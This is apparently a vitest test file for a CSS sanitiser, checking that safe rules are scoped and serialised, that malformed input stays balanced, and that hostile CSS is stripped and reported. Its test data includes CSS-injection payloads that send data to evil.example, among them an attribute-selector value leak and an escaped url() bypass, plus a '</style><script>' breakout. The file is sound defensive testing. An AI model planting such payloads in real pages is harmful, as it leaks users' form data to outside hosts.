import { expect, it } from 'vitest';
import { cleanCss } from './clean-css.ts';

it('keeps rules, scopes them to the page and re-serialises them', () => {
  expect(cleanCss('.a{color:red}@media(min-width:10px){.b:hover{gap:1px}}')).toEqual({
    css: '@scope(#page){.a{color:red}@media (min-width:10px){.b:hover{gap:1px}}}',
    problems: [],
  });
  expect(cleanCss('.a{background:url(/media/x.png)}').problems).toEqual([]);
  expect(cleanCss(".a::after{content:'https://x'}").problems).toEqual([]);
});

it.each([
  ['@import "https://evil.example/x.css";'],
  ['@font-face{font-family:x;src:url(https://evil.example/f)}'],
  ['.a{background:url(https://evil.example/?leak)}'],
  ['.a{background:url(//evil.example/)}'],
  ['.a{background:image-set("https://evil.example/x" 1x)}'],
  ['input[value^="a"]{background:URL( "https://evil.example/a" )}'],
  ['.a{--x:1;background:u\\72l(https://evil.example/)}'],
  ['.a{behavior:url(/x.htc)}'],
  ['@charset "x";@namespace url(https://evil.example);'],
  ['.a{background:url("/\\\\evil.example/x")}'],
])('removes %s and reports it', (text) => {
  const { css, problems } = cleanCss(text);
  expect(css).not.toMatch(/evil|behavior/);
  expect(problems.length).toBeGreaterThan(0);
});

it.each([
  '.a{color:red',
  '.a{color:red}}.b{color:blue}',
  '</style><script>x</script>',
  '.a{}/*',
  '"',
  '@media{',
  '.a{color:;gap:1px}',
  '',
])('serialises balanced CSS for %j', (text) => {
  const { css } = cleanCss(text);
  expect([...css].filter((char) => char === '{').length).toBe([...css].filter((char) => char === '}').length);
  expect(css).not.toContain('<');
});
